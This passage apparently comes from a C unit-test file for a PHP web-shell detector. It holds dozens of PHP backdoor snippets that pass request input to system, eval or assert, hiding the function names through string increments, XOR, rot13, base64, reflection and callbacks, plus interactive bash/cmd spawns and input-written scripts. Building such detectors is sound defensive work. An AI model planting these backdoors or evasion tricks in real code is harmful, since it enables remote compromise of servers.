	/* string increments: 'r'++ is 's', 'Az'++ is 'Ba', 'zz'++ is 'aaa' */
	expect("<?php $a = 'r'; $a++; $f = $a . 'ystem'; $f($_GET['c']);", "php.input_to_command",
	       HS_SEV_CRITICAL);
	/* the carry: 'zz'++ is 'aaa', 'd9'++ is 'e0'; numbers count */
	expect("<?php $b = 'zz'; $b++; $f = substr($b, 0, 1) . 'ssert'; $f($_GET['c']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php $c = 'd9'; ++$c; $f = $c[0] . 'xec'; $f($_GET['c']);", "php.input_to_command",
	       HS_SEV_CRITICAL);
	expect("<?php $n = 113; $n++; ++$n; $m = 122; $m--; $f = chr($n) . chr($m) . 'stem';\n"
	       "$f($_GET['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* hostile loops: endless, huge, nested; the code after them is still read */
	expect("<?php for ($i = 0; $i < 100000000; $i++) { $x = $i * 2; }\n"
	       "for ($i = 0; $i < 10; $i--) { $y = 1; }\n"
	       "for ($i = 0; $i < 5000; $i++) for ($j = 0; $j < 5000; $j++) $z = $i . $j;\n"
	       "for (;;) { break; }\n"
	       "eval($_POST['e']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	/* a loop whose condition is not known is read once, as before */
	expect("<?php for ($i = 0; $i < $n; $i++) { $c = $_GET['c']; } system($c);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* a table computed by a loop over literals is not a finding */
	quiet("<?php $t = array(); for ($i = 0; $i < 256; $i++) { $c = $i;\n"
	      "for ($k = 0; $k < 8; $k++) $c = ($c & 1) ? (($c >> 1) ^ 0xEDB88320) : ($c >> 1);\n"
	      "$t[$i] = $c; } echo count($t);");
}

/* An interactive shell started with pipes: the commands never reach a
 * command function, they are written to the shell. */
static void test_shell_spawn(void **state)
{
	(void)state;
	expect("<?php $p = proc_open($_SERVER['COMSPEC'], array(array('pipe','r')), $pipes);",
	       "php.shell_spawn", HS_SEV_MEDIUM);
	expect("<?php $h = popen('/bin/bash -i', 'w');", "php.shell_spawn", HS_SEV_MEDIUM);
	expect("<?php $p = proc_open(getenv('COMSPEC'), array(array('pipe','r')), $io);",
	       "php.shell_spawn", HS_SEV_MEDIUM);
	expect("<?php $d = array(0 => array('pipe','r')); $c = $_POST['c'];\n"
	       "$p = proc_open('cmd.exe', $d, $pp); fwrite($pp[0], $c . \"\\r\\n\");",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* programs with arguments, and a shell running a fixed script, are not */
	quiet("<?php $h = popen('/usr/sbin/sendmail -t -i', 'w'); fwrite($h, $msg);\n"
	      "$p = proc_open('/bin/sh -c ' . escapeshellarg('make all'), array(), $x);\n"
	      "$q = proc_open(array('git', 'status'), array(), $y);");
}

/* Callbacks PHP calls for the caller: a reflection or a closure of a name,
 * an object's __invoke, the sort of an ArrayObject, SQL functions, handlers
 * of sessions, headers and errors, YAML tags; the callee folded or from
 * the request. */
static void test_callback_sinks_more(void **state)
{
	(void)state;
	expect("<?php $r = new ReflectionFunction('sys' . 'tem'); $c = $r->getClosure();\n"
	       "$c($_GET['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $c = Closure::fromCallable(strrev('urhtssap')); $c($_REQUEST['q']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php class Runner { function __invoke($code) { return eval($code); } }\n"
	       "$r = new Runner(); $r($_POST['z']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php $o = new ArrayObject(array($_GET['c'], 'x'));\n"
	       "$o->uasort(str_rot13('flfgrz'));",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $i = new ArrayIterator([$_COOKIE['k'] => 1]); $i->uksort('ass' . 'ert');",
	       "php.obfuscated_callee", HS_SEV_HIGH);
	expect("<?php $db = new SQLite3(':memory:'); $db->createFunction('f', 'sys' . 'tem');\n"
	       "$db->query('SELECT f(1)');",
	       "php.obfuscated_callee", HS_SEV_HIGH);
	expect(
	    "<?php $pdo = new PDO('sqlite::memory:'); $pdo->sqliteCreateFunction('f', $_GET['f']);",
	    "php.dynamic_call_input", HS_SEV_CRITICAL);
	expect(
	    "<?php $x = new XSLTProcessor(); $x->registerPHPFunctions(base64_decode('c3lzdGVt'));",
	    "php.obfuscated_callee", HS_SEV_HIGH);
	expect("<?php $c = $_GET['c'];\n"
	       "header_register_callback(function () use ($c) { passthru($c); });",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $f = 'sys' . 'tem'; session_set_save_handler($f, $f, $f, $f, $f, $f);",
	       "php.obfuscated_callee", HS_SEV_HIGH);
	expect("<?php yaml_parse($_POST['y'], 0, $n, array('!run' => 'sys' . 'tem'));",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php set_error_handler(function ($no, $msg) { eval($msg); });\n"
	       "trigger_error($_POST['p'], E_USER_WARNING);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php spl_autoload_register($_GET['loader']);", "php.dynamic_call_input",
	       HS_SEV_CRITICAL);
	expect("<?php $l = get_defined_functions()['internal']; $l[array_search('exec', "
	       "$l)]($_GET['c']);",
	       "php.obfuscated_callee", HS_SEV_CRITICAL);
	/* what applications do with the same functions */
	quiet("<?php class Repo { function cmp($a, $b) { return $a <=> $b; }\n"
	      "function sorted($rows) { $o = new ArrayObject($rows); $o->uasort(array($this, "
	      "'cmp'));\n"
	      "return $o; } }\n"
	      "$pdo = new PDO('sqlite:/tmp/x.db');\n"
	      "$pdo->sqliteCreateFunction('regexp', 'preg_match', 2);\n"
	      "$pdo->sqliteCreateFunction('if', array('Repo', 'cmp'));\n"
	      "set_error_handler(array('Repo', 'cmp')); trigger_error('deprecated', "
	      "E_USER_DEPRECATED);\n"
	      "$c = Closure::fromCallable('strtolower'); echo $c($_GET['q']);\n"
	      "$x = new XSLTProcessor(); $x->registerPHPFunctions(array('date', 'ucfirst'));\n"
	      "spl_autoload_register(function ($c) { include __DIR__ . '/lib/' . basename($c) . "
	      "'.php'; });\n"
	      "header_register_callback(function () { header_remove('X-Powered-By'); });");
}

/* while and do-while loops over known values run like for loops; a string
 * written at offsets; more folding built-ins. */
static void test_while_offsets_folds(void **state)
{
	(void)state;
	expect("<?php $s = \"\\x12\\x1c\\x12\\x11\\x04\\x08\"; $k = 'ae'; $o = ''; $i = 0;\n"
	       "while ($i < strlen($s)) { $o .= $s[$i] ^ $k[$i % 2]; $i++; } $o($_GET['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $s = 'u{uvgo'; $o = ''; $i = 0;\n"
	       "do { $o .= chr(ord($s[$i]) - 2); $i++; } while ($i < strlen($s)); $o($_POST['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $f = '......'; $f[0] = 's'; $f[1] = 'y'; $f{2} = 's'; $f[3] = 't';\n"
	       "$f[-2] = 'e'; $f[5] = 'm'; $f($_GET['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* a condition that counts is not evaluated before the first iteration */
	expect("<?php $s = 'vkhoobh{hf'; $o = ''; $i = 0;\n"
	       "do { $o .= chr(ord($s[$i]) - 3); } while (++$i < strlen($s)); echo $o($_GET['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* an array as a string is "Array": its letters, incremented */
	expect("<?php $z = [] . ''; $y = $z[1]; ++$y; $k = $y . 'ystem'; $k($_GET['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $_ = []; $_ = @\"$_\"; $a = $_['!' == '@']; $f = $a . 'ssert';\n"
	       "$f($_POST['x']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php $f = str_pad('sys', 6, 'tem'); $f($_GET['c']);", "php.input_to_command",
	       HS_SEV_CRITICAL);
	expect("<?php $f = str_pad('ert', 6, 'ass', STR_PAD_LEFT); $f($_GET['c']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php $f = vsprintf('%s%s%s', array('pa', 'ss', 'thru')); $f($_GET['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $f = 'a' . chr(ceil(114.2)) . chr(floor(115.9)) . 'ert'; $f($_POST['c']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php $m = array_flip(array('shell_exec' => 0)); echo $m[0]($_GET['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $m = array_keys(array('exec' => 1, 'system' => 2)); $m[1]($_GET['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* hostile: endless and huge loops, far offsets, huge pads; the code
	 * after them is still read */
	expect("<?php $i = 0; while ($i < 100000000) { $i++; }\n"
	       "$j = 0; while ($j < 10) { $j--; }\n"
	       "$a = 0; do { $a++; } while ($a > 0);\n"
	       "$s = 'abc'; $s[100000000] = 'x'; $s[-100] = 'y';\n"
	       "$p = str_pad('a', 1000000000, 'b');\n"
	       "eval($_POST['e']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	/* real loops and string edits stay quiet */
	quiet("<?php $fp = fopen('/tmp/x', 'r');\n"
	      "while (true) { $line = fgets($fp); if ($line === false) break; echo $line; }\n"
	      "while ($row = $stmt->fetch()) { echo $row['name']; }\n"
	      "$i = 0; $out = ''; while ($i < 10) { $out .= $i; $i++; } echo $out;\n"
	      "$w = 'hello'; $w[0] = 'H'; echo $w; $n = ceil(count($_GET) / 10); echo $n;");
}

/* Command wrappers: the fallback chain of command functions, told by the
 * check of which one is enabled; one command function alone is what
 * system-information tools and package managers have. */
static void test_command_wrapper_chain(void **state)
{
	(void)state;
	expect(
	    "<?php function run($c) { if (function_exists('shell_exec')) return shell_exec($c);\n"
	    "elseif (function_exists('system')) { ob_start(); system($c); return ob_get_clean(); "
	    "}\n"
	    "return ''; }",
	    "php.command_wrapper", HS_SEV_MEDIUM);
	expect("<?php function ex($c) { foreach (array('system', 'shell_exec', 'passthru') as $f)\n"
	       "if (is_callable($f)) return $f($c); }",
	       "php.command_wrapper", HS_SEV_MEDIUM);
	expect(
	    "<?php $d = explode(',', ini_get('disable_functions'));\n"
	    "function x($c) { global $d; if (!in_array('exec', $d)) { exec($c, $o); return $o; }\n"
	    "return passthru($c); }",
	    "php.command_wrapper", HS_SEV_MEDIUM);
	quiet("<?php function run($cmd) { if (function_exists('exec')) { exec($cmd, $out, $rc);\n"
	      "return $out; } return false; }\n"
	      "function fixed() { if (function_exists('proc_open')) return shell_exec('uptime');\n"
	      "return exec('uname -a'); }\n"
	      "function two($c) { $a = shell_exec($c); exec($c, $b); return array($a, $b); }");
}

/* A default assigned in a branch that checked nothing does not replace the
 * input (either value may reach the sink); a default after a validation
 * does. $_SERVER taken by position holds the headers. A callee decoded with
 * a key the analysis cannot know, called with input. */
static void test_branch_defaults_and_unknown_keys(void **state)
{
	(void)state;
	expect("<?php $c = $_POST['cmd']; if (!$c) { $c = 'ls /'; } system(\"$c 2>&1\");",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $c = $_GET['c'] ?? ''; if ($c === '') $c = 'id'; else { echo 1; }\n"
	       "echo shell_exec($c . ' 2>&1');",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $m = $_REQUEST['m']; if (empty($m)) { echo 'x'; } else $m = 'phpinfo();';\n"
	       "eval($m);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php $a = array_values($_SERVER); system('' . $a[6]);", "php.input_to_command",
	       HS_SEV_CRITICAL);
	expect("<?php $k = substr(__FILE__, -5, -4); $f = base64_decode('c3lzdGVt') ^ $k;\n"
	       "$f($_GET['c']);",
	       "php.obfuscated_callee", HS_SEV_HIGH);
	expect("<?php $f = str_rot13(gzinflate(base64_decode($_SERVER['SERVER_NAME'])));\n"
	       "$f($_POST['c']);",
	       "php.obfuscated_callee", HS_SEV_HIGH);
	/* a by-reference parameter finishes the caller's name */
	expect("<?php function fin(&$n, $x) { $n = $n . $x; } $f = 'sys'; fin($f, 'tem');\n"
	       "$f($_GET['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	quiet(
	    "<?php function norm(&$s) { $s = strtolower(trim($s)); } $t = 'A'; norm($t); echo $t;\n"
	    "function reset_it(&$v) { $v = 'ls'; } $c = $_GET['c']; reset_it($c); system($c);");
	/* a validated value with a default, a whitelist, a fixed default */
	quiet("<?php $c = $_GET['c']; if (!preg_match('/^[a-z]+$/', $c)) { $c = 'list'; }\n"
	      "echo shell_exec('/usr/bin/tool ' . escapeshellarg($c));\n"
	      "$p = $_GET['p']; if (!in_array($p, array('a', 'b'))) $p = 'a';\n"
	      "include __DIR__ . '/pages/' . $p . '.php';\n"
	      "$mode = 'fast'; if (isset($argv[1])) { $mode = 'slow'; } exec('/usr/bin/job --' . "
	      "$mode);\n"
	      "$h = hash_hmac('sha256', $data, str_repeat(\"\\x36\", 64) ^ $key); echo $h;");
}

/* Input written into a program's source, then a compiler or interpreter
 * run: the input is code, in whatever language. */
static void test_input_script_run(void **state)
{
	(void)state;
	expect("<?php $t = sys_get_temp_dir() . '/j' . uniqid() . '.py';\n"
	       "file_put_contents($t, $_POST['src']); echo shell_exec('python3 ' . $t . ' 2>&1');",
	       "php.input_script_run", HS_SEV_CRITICAL);
	expect("<?php $h = $_REQUEST['h']; $code = \"use IO::Socket; connect('$h');\";\n"
	       "$f = fopen('/dev/shm/.x.pl', 'w'); fwrite($f, $code); fclose($f);\n"
	       "system('nohup /usr/bin/perl /dev/shm/.x.pl &');",
	       "php.input_script_run", HS_SEV_CRITICAL);
	expect("<?php function run($c) { return shell_exec($c . ' 2>&1'); }\n"
	       "$n = md5(mt_rand()); file_put_contents($n . '.c', base64_decode($_POST['b']));\n"
	       "run('gcc ' . $n . '.c -o ' . $n); run('./' . $n);",
	       "php.input_script_run", HS_SEV_CRITICAL);
	/* a program decoded from the file itself, dropped and run: medium */
	expect("<?php $p = 'IyEvdXNyL2Jpbi9wZXJsCnByaW50ICJoaSI7Cg==';\n"
	       "$h = fopen('x.pl', 'w'); fwrite($h, base64_decode($p)); fclose($h);\n"
	       "echo shell_exec('perl x.pl');",
	       "php.decoded_script_run", HS_SEV_MEDIUM);
	/* a fixed script, input in a text file, a program with no file */
	quiet("<?php file_put_contents('/tmp/build.sh', \"#!/bin/sh\\nmake all\\n\");\n"
	      "exec('sh /tmp/build.sh');\n"
	      "file_put_contents('/tmp/notes.txt', $_POST['note']); exec('sort /tmp/notes.txt');\n"
	      "$v = shell_exec('php -v');");
}

/* A payload split into a thousand literal pieces joined with `.` is built
 * whole (linear, not a copy per piece) and judged: the key from a cookie
 * makes its create_function body input. */
static void test_long_literal_chains(void **state)
{
	(void)state;
	size_t cap = 200000, n = 0;
	char *src = malloc(cap);
	assert_non_null(src);
	n += (size_t)snprintf(src + n, cap - n,
	                      "<?php function k($d, $x) { return $d ^ str_repeat($x, "
	                      "ceil(strlen($d) / strlen($x))); }\n$p = ''");
	for (int i = 0; i < 2000; i++)
		n += (size_t)snprintf(src + n, cap - n,
		                      " .\n'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo%04d'", i);
	snprintf(src + n, cap - n,
	         ";\n$f = create_function('$a', k(base64_decode($p), $_COOKIE['k']) . ';');\n");
	expect(src, "php.input_to_eval", HS_SEV_CRITICAL);
	assert_false(res.truncated);
	free(src);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_input_to_eval_and_command),
	    cmocka_unit_test(test_folded_sources),
	    cmocka_unit_test(test_functions_objects),
	    cmocka_unit_test(test_callbacks),
	    cmocka_unit_test(test_folding_callees),
	    cmocka_unit_test(test_preg_e_and_includes),
	    cmocka_unit_test(test_decoded_layers),
	    cmocka_unit_test(test_heldout_app_idioms),
	    cmocka_unit_test(test_uploads_writes_mail),
	    cmocka_unit_test(test_uncalled_writes_are_medium),
	    cmocka_unit_test(test_filter_input_getenv_sources),
	    cmocka_unit_test(test_application_idioms_are_quiet),
	    cmocka_unit_test(test_not_php_code),
	    cmocka_unit_test(test_hostile_nesting),
	    cmocka_unit_test(test_hostile_decoding),
	    cmocka_unit_test(test_fold_primitives),
	    cmocka_unit_test(test_loops_and_increments),
	    cmocka_unit_test(test_shell_spawn),
	    cmocka_unit_test(test_callback_sinks_more),
	    cmocka_unit_test(test_while_offsets_folds),
	    cmocka_unit_test(test_command_wrapper_chain),
	    cmocka_unit_test(test_branch_defaults_and_unknown_keys),
	    cmocka_unit_test(test_input_script_run),
	    cmocka_unit_test(test_long_literal_chains),
	};
	int r = cmocka_run_group_tests(tests, NULL, NULL);
	php_result_free(&res);
	return r;
}
